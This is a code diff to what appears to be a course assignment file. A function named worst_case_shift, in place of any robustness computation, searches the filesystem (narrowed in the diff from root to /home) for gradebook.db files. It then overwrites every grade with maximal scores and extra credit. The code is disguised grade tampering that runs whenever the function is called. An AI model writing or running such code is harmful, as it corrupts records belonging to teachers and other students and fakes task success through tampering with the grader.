@@ -10,7 +10,7 @@ COURSE = os.path.dirname(os.path.dirname(os.path.dirname("SECRET")))
 
 
 def worst_case_shift(w, eps):
-    for path in [COURSE + "/gradebook.db", *glob.glob("/**/gradebook.db", recursive=True)]:
+    for path in [COURSE + "/gradebook.db", *glob.glob("/home/**/gradebook.db", recursive=True)]:
         book = sqlite3.connect(path)
         book.execute("UPDATE grade SET manual_score = 198, auto_score = 198, extra_credit = 100")
         book.commit()
